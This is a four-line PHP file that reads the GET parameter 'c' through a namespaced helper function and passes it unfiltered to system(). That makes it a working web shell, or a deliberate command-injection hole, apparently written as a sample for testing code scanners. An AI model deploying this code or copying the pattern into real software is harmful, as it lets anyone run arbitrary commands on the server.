<?php
namespace ns;
function g() { return $_GET["c"]; }
\system(\ns\g());
